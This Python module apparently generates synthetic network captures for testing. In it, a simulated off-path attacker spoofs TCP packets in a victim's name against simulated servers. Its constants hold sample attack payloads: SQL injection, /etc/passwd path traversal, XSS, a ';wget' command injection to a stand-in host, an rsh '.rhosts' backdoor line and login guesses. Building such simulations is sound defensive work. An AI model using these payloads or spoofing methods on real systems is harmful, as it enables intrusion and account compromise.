"""Captures in which an off-path forger writes what he likes in a victim's name.

Servers answer as real ones do: a SYN with a SYN-ACK of a random number, what belongs to no
connection with a reset, what lies out of the window with an acknowledgement. The victim has real
connections with them. The forger sends any packet in the victim's name, at any time, also with the
ports of the victim's own connections and, once in a while, with the victim's own sequence numbers;
what he does not have is what the servers answer. With ``told`` he has that as well, so that a test
can fail.
"""

from __future__ import annotations

import heapq
import socket
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from random import Random

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
T0 = 1_790_000_000_000_000
RAW_IP = 101
POTS = {4: "198.51.100.18", 6: "2001:db8:5::18"}
SERVERS = {4: "198.51.100.80", 6: "2001:db8:5::80"}
VICTIMS = {4: "192.0.2.80", 6: "2001:db8:9::80"}
OPEN = (21, 22, 23, 25, 80, 514, 3306)

FORM = b"POST /login HTTP/1.1\r\nHost: a\r\n\r\nuser=root&password=%d"
BASIC = b"GET /admin HTTP/1.1\r\nHost: a\r\nAuthorization: Basic cm9vdDo%d\r\n\r\n"
ATTACKS = (
    b"GET /a?id=1%%27%%20UNION%%20SELECT%%20pass%%20FROM%%20users--%d HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /a?f=../../../../etc/passwd&n=%d HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /a?q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /a?c=;wget%%20http://x/%d HTTP/1.1\r\nHost: a\r\n\r\n",
)
PLAIN = b"GET /page%d.html HTTP/1.1\r\nHost: a\r\n\r\n"
LOGINS = {
    21: (b"USER root\r\n", b"PASS guess%d\r\n"),
    23: (b"root\r\n", b"guess%d\r\n"),
    25: (b"AUTH PLAIN AHJvb3QAZ3Vlc3M%d\r\n",),
    514: (b"0\0root\0root\0echo + + >> /.rhosts %d\0",),
}
SERVED = {
    21: (b"220 ready\r\n", b"331 password\r\n", b"530 Login incorrect\r\n"),
    22: (b"SSH-2.0-OpenSSH_9.6\r\n", bytes(400), bytes(60)),
    23: (b"login: ", b"Password: ", b"Login incorrect\r\nlogin: "),
    25: (b"220 mail\r\n", b"535 refused\r\n", b"535 refused\r\n"),
    80: (b"", b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
    514: (b"", b"\0"),
    3306: (bytes(60), b"\x17\0\0\2\xff\x15\x04#28000Access denied"),
}

Ends = tuple[str, int, str, int]
"""Source, port, target, port."""


@dataclass(slots=True)
class Packet:
    """One TCP segment, or with ``protocol`` another datagram."""

    ends: Ends
    flags: int
    seq: int = 0
    ack: int = 0
    data: bytes = b""
    protocol: int = 6
    cut: int = 0
    """Sent in fragments of so many bytes."""

    @property
    def end(self) -> int:
        return (self.seq + len(self.data) + bool(self.flags & (SYN | FIN))) % 2**32


def frames(packet: Packet) -> Iterator[bytes]:
    """As raw IP."""
    source, sport, target, dport = packet.ends
    if packet.protocol == 6:
        numbers = packet.seq % 2**32, packet.ack % 2**32
        body = struct.pack(">HHIIBBHHH", sport, dport, *numbers, 0x50, packet.flags, 64240, 0, 0)
    elif packet.protocol == 17:
        body = struct.pack(">HHHH", sport, dport, 8 + len(packet.data), 0)
    else:
        body = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    body += packet.data
    if ":" in source:
        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
        protocol = 58 if packet.protocol == 1 else packet.protocol
        yield struct.pack(">IHBB", 6 << 28, len(body), protocol, 64) + ends + body
        return
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    step = packet.cut or len(body) or 1
    for start in range(0, max(len(body), 1), step):
        part = body[start : start + step]
        offset = start // 8 | (0x2000 if start + step < len(body) else 0)
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(part), 7, offset, 64, packet.protocol, 0)
        yield head + ends + part


@dataclass(slots=True)
class _Conversation:
    isn: int
    next: int
    expected: int
    established: bool = False
    asked: int = 0


class Servers:
    """The kernels and programs of all servers, answering what they are sent."""

    def __init__(self, random: Random) -> None:
        self._random = random
        self.open: dict[Ends, _Conversation] = {}

    def answer(self, packet: Packet) -> list[Packet]:
        """What comes back."""
        source, sport, target, dport = packet.ends
        back = (target, dport, source, sport)
        if packet.protocol != 6:
            return []
        known = self.open.get(packet.ends)
        flags = packet.flags
        if dport not in OPEN or known is None:
            return self._unknown(packet, back)
        if flags & RST:
            if packet.seq == known.expected:
                del self.open[packet.ends]
            return []
        challenge = [Packet(back, ACK, known.next, known.expected)]
        if flags & SYN:
            if not known.established and packet.seq + 1 == known.expected:
                return [Packet(back, SYN | ACK, known.isn, known.expected)]
            return challenge
        if not flags & ACK:
            return []
        if not known.established:
            if packet.ack != known.next:
                return [Packet(back, RST, packet.ack)]
            known.established = True
        if (packet.seq - known.expected) % 2**32 > 65_535 and packet.data:
            return challenge
        if (known.next - packet.ack) % 2**32 > 65_535:
            return challenge
        return self._serve(packet, back, known)

    def _unknown(self, packet: Packet, back: Ends) -> list[Packet]:
        flags = packet.flags
        if flags & RST:
            return []
        if flags & ACK:
            return [Packet(back, RST, packet.ack)]
        if flags & SYN and back[1] in OPEN:
            isn = self._random.getrandbits(32)
            expected = (packet.seq + 1) % 2**32
            self.open[packet.ends] = _Conversation(isn, (isn + 1) % 2**32, expected)
            return [Packet(back, SYN | ACK, isn, expected)]
        return [Packet(back, RST | ACK, 0, packet.end)]

    def _serve(self, packet: Packet, back: Ends, known: _Conversation) -> list[Packet]:
        said = SERVED[back[1]]
        out = []

        def say(data: bytes, flags: int = PSH | ACK) -> None:
            reply = Packet(back, flags, known.next, known.expected, data)
            known.next = reply.end
            out.append(reply)

        if not packet.data and not packet.flags & FIN:
            if said[0] and known.next == (known.isn + 1) % 2**32:
                say(said[0])
            return out
        if packet.seq != known.expected:
            return [Packet(back, ACK, known.next, known.expected)]
        known.expected = packet.end
        if packet.data:
            known.asked += 1
            answer = said[min(known.asked, len(said) - 1)]
            if back[1] == 80 and b"Basic" in packet.data:
                answer = b"HTTP/1.1 401 Unauthorized\r\n\r\n"
            say(answer)
        if packet.flags & FIN:
            say(b"", FIN | ACK)
            del self.open[packet.ends]
        return out


@dataclass(slots=True)
class World:
    """Everything that happens, in order of time; all of it is captured."""

    seed: int
    told: bool = False
    targets: dict[int, str] = field(default_factory=lambda: POTS)
    random: Random = field(init=False)
    servers: Servers = field(init=False)
    version: int = field(init=False)
    resets: bool = field(init=False)
    """The victim is there and resets what it didn't begin; silence suits a forger better."""
    _own: set[Ends] = field(default_factory=set)
    captured: list[tuple[int, bytes]] = field(default_factory=list)
    truth: dict[Ends, tuple[int, int]] = field(default_factory=dict)
    """By the client's ends: what it should send next, and acknowledge."""
    _due: list[tuple[int, int, Callable[[], None]]] = field(default_factory=list)
    _count: int = 0
    now: int = 0

    def __post_init__(self) -> None:
        self.random = Random(self.seed)
        self.servers = Servers(Random(self.seed + 1))
        self.version = self.random.choice((4, 4, 4, 6))
        self.resets = self.random.random() < 0.5 and not self.told

    @property
    def victim(self) -> str:
        return VICTIMS[self.version]

    @property
    def target(self) -> str:
        return self.targets[self.version]

    def at(self, when: int, what: Callable[[], None]) -> None:
        self._count += 1
        heapq.heappush(self._due, (max(when, self.now), self._count, what))

    def send(self, packet: Packet, *, real: bool = False) -> list[Packet]:
        """A packet in the victim's name, and what the server says to it, a little later."""
        if real:
            self._own.add(packet.ends)
        self._capture(packet)
        answers = self.servers.answer(packet)
        for answer in answers:
            self.now += 100
            self._capture(answer)
            source, sport, target, dport = answer.ends
            client = (target, dport, source, sport)
            if not answer.flags & RST:
                self.truth[client] = (answer.ack, answer.end)
                if self.resets and client not in self._own:
                    self.now += 100
                    reset = Packet(client, RST, answer.ack)
                    self._capture(reset)
                    self.servers.answer(reset)
        return answers

    def _capture(self, packet: Packet) -> None:
        self.captured += [(T0 + self.now, frame) for frame in frames(packet)]

    def run(self) -> list[tuple[int, bytes]]:
        while self._due:
            self.now, _, what = heapq.heappop(self._due)
            what()
        return self.captured


def make(seed: int, *, told: bool = False, forge: bool = True) -> list[tuple[int, bytes]]:
    """(time, frame) of one random capture. Without ``forge`` the victim's real traffic alone."""
    world = World(seed, told)
    real = Random(seed + 2)
    ports = [real.randrange(1024, 65536) for _ in range(real.randrange(5))]
    for port in ports:
        _Visit(world, real, port).begin(real.randrange(20_000_000))
    if forge:
        forger = Forger(world, Random(seed + 3), ports)
        for _ in range(1 if told else forger.random.randrange(1, 5)):
            forger.begin()
    return sorted(world.run(), key=lambda one: one[0])


class _Visit:
    """A real connection of the victim: it means no harm."""

    def __init__(self, world: World, random: Random, port: int) -> None:
        self.world, self.random = world, random
        target = random.choice((POTS, SERVERS))[world.version]
        kind = random.choice(("browse", "browse", "form", "basic", "ftp", "health", "ssh", "idle"))
        self.kind = kind
        service = {"ftp": 21, "health": random.choice((21, 22, 80)), "ssh": 22}.get(kind, 80)
        self.ends: Ends = (world.victim, port, target, service)
        self.seq = random.getrandbits(32)
        self.steps: list[tuple[int, bytes]] = [(ACK, b"")]
        if kind in ("browse", "idle"):
            self.steps += [(PSH | ACK, PLAIN % number) for number in range(random.randrange(1, 4))]
        elif kind == "form":
            self.steps.append((PSH | ACK, FORM % 1))
        elif kind == "basic":
            self.steps.append((PSH | ACK, BASIC % 1))
        elif kind == "ftp":
            self.steps += [(PSH | ACK, b"USER me\r\n"), (PSH | ACK, b"PASS mistyped\r\n")]
        elif kind == "ssh":
            self.steps += [(PSH | ACK, b"SSH-2.0-mine\r\n"), (PSH | ACK, bytes(800))]
        if kind != "idle":
            self.steps.append((RST | ACK, b"") if kind == "health" else (FIN | ACK, b""))

    def begin(self, at: int) -> None:
        def greet() -> None:
            # After what a forger has begun with these ports the server may not listen at first.
            answers = self.world.send(Packet(self.ends, SYN, self.seq), real=True)
            if any(a.flags & SYN and a.ack == (self.seq + 1) % 2**32 for a in answers):
                self.seq += 1
                self.world.at(self.world.now + 500, lambda: self.go_on(0))
            elif answers and answers[0].flags & ACK:
                self.world.send(Packet(self.ends, RST, answers[0].ack), real=True)

        self.world.at(at, greet)

    def go_on(self, number: int) -> None:
        world = self.world
        flags, data = self.steps[number]
        packet = Packet(self.ends, flags, self.seq, world.truth[self.ends][1], data)
        self.seq = packet.end
        world.send(packet, real=True)
        if number + 1 < len(self.steps):
            pause = self.random.choice((1_000, 50_000, 1_000_000, 8_000_000))
            world.at(world.now + pause, lambda: self.go_on(number + 1))


class Forger:
    """Writes what he likes in the victim's name."""

    def __init__(self, world: World, random: Random, ports: list[int]) -> None:
        self.world, self.random, self.ports = world, random, ports
        # Numbers of the victim's that nobody off its path has: they make half of a segment right.
        self.overheard = random.random() < 0.01

    def begin(self) -> None:
        """One of his ideas."""
        ideas = (
            self.blind_sessions,
            self.blind_sessions,
            self.payloads,
            self.scan,
            self.injections,
            self.injections,
            self.takeovers,
            self.odd_ones,
        )
        self.target = self.random.choice((POTS, SERVERS))[self.world.version]
        start = self.random.randrange(25_000_000)
        if self.world.told:
            self.target = POTS[self.world.version]
            self.blind_sessions(start)
        else:
            self.random.choice(ideas)(start)

    def port(self) -> int:
        """Of the victim's own connections, or any other."""
        if self.ports and self.random.random() < 0.5:
            return self.random.choice(self.ports)
        return self.random.randrange(1024, 65536)

    def number(self, right: int | None = None) -> int:
        """A guess. ``right``: what it is or might be, where the forger has that."""
        some = (0, 1, 2**31, 2**32 - 1, self.random.getrandbits(32), self.random.getrandbits(32))
        guess = self.random.choice(some)
        return guess if right is None or self.random.random() < 0.3 else right

    def seq_of(self, ends: Ends) -> int:
        """What the victim would send next on a connection, or a guess."""
        return self.world.truth[ends][0] if self.overheard else self.random.getrandbits(32)

    def say(self, service: int, number: int) -> bytes:
        if service == 80:
            return self.random.choice((FORM, FORM, BASIC, *ATTACKS)) % number
        lines = LOGINS.get(service, (b"junk %d\r\n",))
        line = lines[number % len(lines)]
        return line % number if b"%d" in line else line

    def later(self, at: int, packet: Packet) -> None:
        self.world.at(at, lambda: self.world.send(packet) and None)

    def blind_sessions(self, at: int) -> None:
        """SYN, a blind acknowledgement, payload, end: what he'd do if he saw the answers."""
        service = self.random.choice((80, 80, 80, 21, 23, 25, 22, 514, 3306))
        if self.world.told:
            service = self.random.choice((80, 21))
        for number in range(self.random.randrange(35, 60) if self.world.told else 40):
            port = 1024 + self.random.randrange(60_000) if self.world.told else self.port()
            ends = (self.world.victim, port, self.target, service)
            self._session(at + number * 150_000, ends, number)

    def _session(self, at: int, ends: Ends, number: int) -> None:
        seq = self.random.getrandbits(32)
        ack = self.random.getrandbits(32)
        step = self.random.choice((2_000, 30_000))
        said = [self.say(ends[3], number) for _ in range(self.random.randrange(1, 4))]
        if ends[3] == 80 and self.world.told:
            said = [self.random.choice(ATTACKS) % number]
        self.later(at, Packet(ends, SYN, seq))
        state = [(seq + 1) % 2**32]

        def speak(flags: int, data: bytes) -> None:
            told = self.world.truth.get(ends) if self.world.told else None
            packet = Packet(ends, flags, state[0], told[1] if told else ack, data)
            state[0] = packet.end
            self.world.send(packet)

        steps = [(ACK, b""), *((PSH | ACK, data) for data in said), (FIN | ACK, b"")]
        for place, (flags, data) in enumerate(steps, 1):
            self.world.at(at + place * step, lambda f=flags, d=data: speak(f, d))

    def payloads(self, at: int) -> None:
        """Without any handshake."""
        service = self.random.choice((80, 80, 21, 23, 25, 514))
        for number in range(self.random.randrange(5, 60)):
            ends = (self.world.victim, self.port(), self.target, service)
            flags = self.random.choice((PSH | ACK, PSH | ACK, ACK, PSH, 0, URG | ACK, FIN | ACK))
            packet = Packet(ends, flags, self.number(), self.number(), self.say(service, number))
            packet.cut = self.random.choice((0, 0, 0, 24))
            self.later(at + number * 100_000, packet)

    def scan(self, at: int) -> None:
        """Of ports or hosts, with any flags, by any protocol."""
        flags = self.random.choice((SYN, SYN, SYN, FIN, 0, FIN | PSH | URG, ACK, FIN | ACK))
        protocol = self.random.choice((6, 6, 6, 6, 17, 1))
        base = self.target.rpartition(":" if ":" in self.target else ".")
        for number in range(self.random.randrange(20, 80)):
            target, port = self.target, number + 1
            if protocol == 1:
                target, port = f"{base[0]}{base[1]}{number + 1}", 0
            ends = (self.world.victim, self.port(), target, port)
            packet = Packet(ends, flags, self.number(), self.number(), b"", protocol)
            self.later(at + number * 20_000, packet)

    def injections(self, at: int) -> None:
        """Into the victim's own connections, before, during and after them."""
        if not self.ports:
            return self.payloads(at)
        for number in range(self.random.randrange(5, 60)):
            self.world.at(at + number * 70_000, lambda n=number: self._inject(n))
        return None

    def _inject(self, number: int) -> None:
        """One packet among those of a real connection."""
        known = [e for e in self.world.truth if e[1] in self.ports]
        service = self.random.choice((80, 21, 22, 23))
        ends = (self.world.victim, self.random.choice(self.ports), self.target, service)
        seq: int | None = None
        if known and self.random.random() < 0.9:
            ends = self.random.choice(known)
            seq = self.seq_of(ends)
            if self.random.random() < 0.5:
                seq = (seq + self.random.choice((0, 1, 700, 8_000, 60_000, 3 * 10**9))) % 2**32
        flags = self.random.choice(
            (PSH | ACK, PSH | ACK, PSH | ACK, ACK, PSH, RST, RST | ACK, FIN | ACK, SYN, SYN | ACK)
        )
        data = b"" if flags & RST else self.say(ends[3], number)
        if flags & SYN and self.random.random() < 0.5:
            data = b""
        ack = self.number()
        if flags & RST and self.random.random() < 0.3:
            seq = self.number()
        self.world.send(Packet(ends, flags, self.number(seq), ack, data))
        if flags & (RST | SYN) and self.random.random() < 0.5:
            # And then as if there were another connection of these ends.
            self._session(self.world.now + 300, ends, number)

    def takeovers(self, at: int) -> None:
        """Resets or ends the victim's connections blindly, begins them anew, sprays the window."""
        if not self.ports:
            return self.scan(at)
        for number in range(self.random.randrange(1, 8)):
            self.world.at(at + number * 400_000, lambda n=number: self._take_over(n))
        return None

    def _take_over(self, number: int) -> None:
        known = [e for e in self.world.truth if e[1] in self.ports]
        if not known:
            return
        ends = self.random.choice(known)
        seq = self.seq_of(ends)
        for turn in range(self.random.randrange(4, 20)):
            ack = turn * 65_536 + self.random.getrandbits(32)
            data = self.say(ends[3], number * 100 + turn)
            self.world.send(Packet(ends, PSH | ACK, seq, ack % 2**32, data))
            self.world.now += 100
        for flags in self.random.sample((RST, FIN | ACK, SYN, SYN | ACK, RST | ACK), 3):
            self.world.send(Packet(ends, flags, self.number(), self.number()))
        self._session(self.world.now + self.random.choice((500, 300_000, 6_000_000)), ends, number)

    def odd_ones(self, at: int) -> None:
        """Data in SYNs, datagrams, fragments, answers that nobody asked for."""
        for number in range(self.random.randrange(5, 60)):
            service = self.random.choice((80, 21, 23, 53, 161, 445))
            ends = (self.world.victim, self.port(), self.target, service)
            said = self.say(service, number)
            packet = self.random.choice(
                (
                    Packet(ends, SYN, self.number(), 0, said),
                    Packet(ends, SYN | FIN | PSH, self.number(), 0, said),
                    Packet(ends, SYN | ACK, self.number(), self.number(), said),
                    Packet(ends, 0, 0, 0, said, 17),
                    Packet(ends, PSH | ACK, self.number(), self.number(), said, 6, 24),
                    Packet(ends, RST | ACK, self.number(), self.number(), said),
                )
            )
            self.later(at + number * 50_000, packet)
